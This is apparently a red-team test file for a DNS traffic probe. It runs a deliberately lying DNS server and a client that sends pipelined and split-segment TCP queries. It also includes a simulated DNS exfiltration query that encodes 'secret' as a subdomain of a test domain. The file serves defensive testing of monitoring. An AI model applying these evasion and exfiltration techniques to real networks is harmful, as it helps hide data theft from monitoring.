// Red team: DNS traffic a pod can legally send that makes the dns probe lie or
// miss without a word. A server in one namespace answers every query (UDP and
// TCP) with a question section naming another name than the one asked; a
// client in the other sends queries as real resolvers may: over UDP, two
// queries in one TCP segment (RFC 7766 pipelining: glibc and unbound send A
// and AAAA so), and a TCP query whose 2-byte length went out in its own
// segment (a client writing the length prefix apart). What the client sent and
// received is the ground truth: a query either becomes a record naming what
// the pod asked, or its loss is counted.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { FlowRecord } from '../../src/pipeline/types.js';
import { MonotonicClock } from '../../src/probes/shared/clock.js';
import { dnsPlan } from '../../src/probes/dns/plan.js';
import type { AttachedProbe } from '../../src/probes/shared/probe.js';
import { testContext, waitFor } from './l7-net.js';
import { PodNet } from './pod-net.js';

const SUBNET = '10.251.8';
const SERVER = `${SUBNET}.53`;
const TIMEOUT_MS = 1000;
let net: PodNet;
let ctx: ReturnType<typeof testContext>;
let probe: AttachedProbe | undefined;
let ticker: NodeJS.Timeout | undefined;

/** Answers every query with the asker's id, one A record 192.0.2.1, and the question "www.example.com" whatever was asked. */
const LYING_SERVER = `
const dgram = require('node:dgram');
const net = require('node:net');
const [host] = process.argv.slice(1);
const LIE = Buffer.from([3, ...Buffer.from('www'), 7, ...Buffer.from('example'), 3, ...Buffer.from('com'), 0]);
function answer(q) {
  const head = Buffer.from([q[0], q[1], 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
  const rr = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 1]);
  return Buffer.concat([head, LIE, Buffer.from([0, 1, 0, 1]), rr]);
}
const u = dgram.createSocket('udp4');
u.on('message', (q, from) => u.send(answer(q), from.port, from.address));
u.bind(53, host);
net.createServer((c) => {
  let buf = Buffer.alloc(0);
  c.on('data', (d) => {
    buf = Buffer.concat([buf, d]);
    while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
      const q = buf.subarray(2, 2 + buf.readUInt16BE(0));
      buf = buf.subarray(2 + q.length);
      const r = answer(q);
      const len = Buffer.alloc(2);
      len.writeUInt16BE(r.length);
      c.write(Buffer.concat([len, r]));
    }
  });
  c.on('error', () => {});
}).listen(53, host, () => console.log('ready'));
`;

/**
 * MODE udp|tcp2|tcpsplit, then "id:name" queries. udp: one query over UDP; tcp2: all queries in one
 * TCP segment; tcpsplit: one query whose length prefix is written (and sent: TCP_NODELAY) 50 ms
 * before its message. Prints {"port","answered":[ids]} once every query got its response.
 */
const CLIENT = `
const dgram = require('node:dgram');
const net = require('node:net');
const [server, mode, ...qs] = process.argv.slice(1);
const queries = qs.map((s) => {
  const [id, name] = s.split(':');
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  const head = Buffer.from([Number(id) >> 8, Number(id) & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([head, ...labels, Buffer.from([0, 0, 1, 0, 1])]);
});
const framed = (m) => { const l = Buffer.alloc(2); l.writeUInt16BE(m.length); return [l, m]; };
setTimeout(() => { console.error('no response'); process.exit(1); }, 30000).unref();
const answered = [];
function done(port) { console.log(JSON.stringify({ port, answered })); }
if (mode === 'udp') {
  const s = dgram.createSocket('udp4');
  s.on('message', (m) => { answered.push(m.readUInt16BE(0)); if (answered.length === queries.length) { done(s.address().port); s.close(); } });
  s.bind(0, () => { for (const q of queries) s.send(q, 53, server); });
} else {
  const c = net.connect(53, server, () => {
    c.setNoDelay(true);
    if (mode === 'tcp2') c.write(Buffer.concat(queries.flatMap(framed)));
    else { const [l, m] = framed(queries[0]); c.write(l); setTimeout(() => c.write(m), 50); }
  });
  let buf = Buffer.alloc(0);
  c.on('data', (d) => {
    buf = Buffer.concat([buf, d]);
    while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
      answered.push(buf.readUInt16BE(2));
      buf = buf.subarray(2 + buf.readUInt16BE(0));
    }
    if (answered.length === queries.length) { const port = c.localPort; setTimeout(() => { c.end(); done(port); }, 100); }
  });
}
`;

interface ClientOut {
  port: number;
  answered: number[];
}

async function client(mode: 'udp' | 'tcp2' | 'tcpsplit', queries: readonly string[]): Promise<ClientOut> {
  const out = JSON.parse(await net.run('cli', process.execPath, ['-e', CLIENT, SERVER, mode, ...queries])) as ClientOut;
  assert.equal(out.answered.length, queries.length, `the server answered every query: ${JSON.stringify(out)}`);
  return out;
}

function lossTotal(): number {
  return (probe?.losses() ?? []).reduce((n, l) => n + l.count, 0);
}

/** The records of this client port (a query gives one, answered or TIMEOUT, within TIMEOUT_MS plus a tick; more on a loaded machine). */
async function recordsOf(port: number, ids: readonly number[]): Promise<FlowRecord[]> {
  const ours = () => ctx.records.filter((r) => r.source?.port === port && ids.includes(r.dns?.id ?? -1));
  await waitFor(`records of client port ${port}`, () => ours().length >= ids.length, TIMEOUT_MS + 30_000).catch(() => undefined);
  return ours();
}

before(async () => {
  net = new PodNet('pfrtd', SUBNET, [
    { name: 'srv', host: 53 },
    { name: 'cli', host: 2 },
  ]);
  ctx = testContext();
  await PodNet.ready(net.spawn('srv', process.execPath, ['-e', LYING_SERVER, SERVER]), 'the DNS server');
  const candidate = dnsPlan({ interfaces: ['pfrtd*'], timeoutMs: TIMEOUT_MS }).candidates.find((c) => c.hook === 'tc');
  assert.ok(candidate, 'the dns plan has a tc candidate');
  probe = candidate.attach(ctx);
  const p = probe;
  ticker = setInterval(() => p.tick?.(MonotonicClock.nowNs()), 50);
});

after(() => {
  if (ticker) clearInterval(ticker);
  probe?.close();
  net?.destroy();
});

test('the record names what the pod asked, not the question section a server chose to answer with', async () => {
  // An exfiltrating pod asks its own server for <secret>.evil.test; the server echoes an innocent name.
  const out = await client('udp', ['4242:c2VjcmV0.exfil.pfrt.test']);
  const recs = await recordsOf(out.port, [4242]);
  assert.equal(recs.length, 1, `one record of query 4242: ${JSON.stringify(recs.map((r) => r.dns))}`);
  assert.equal(recs[0]?.dns?.query, 'c2VjcmV0.exfil.pfrt.test', 'the query name the pod sent');
});

test('two DNS-over-TCP queries in one segment: both recorded, or the one missed is counted', async () => {
  const before = lossTotal();
  const out = await client('tcp2', ['1111:first.pfrt.test', '2222:second.pfrt.test']);
  const recs = await recordsOf(out.port, [1111, 2222]);
  const ids = recs.map((r) => r.dns?.id).sort();
  assert.ok(
    (ids.includes(1111) && ids.includes(2222)) || lossTotal() > before,
    `client sent and got answers for ids 1111 and 2222; records: ${JSON.stringify(ids)}, losses: ${JSON.stringify(probe?.losses().filter((l) => l.count > 0))}`,
  );
});

test('a DNS-over-TCP query whose length prefix came in its own segment: recorded, or its miss counted', async () => {
  const before = lossTotal();
  const out = await client('tcpsplit', ['3333:split.pfrt.test']);
  const recs = await recordsOf(out.port, [3333]);
  assert.ok(
    recs.length === 1 || lossTotal() > before,
    `client sent and got an answer for id 3333; records: ${JSON.stringify(recs.map((r) => r.dns))}, losses: ${JSON.stringify(probe?.losses().filter((l) => l.count > 0))}`,
  );
});
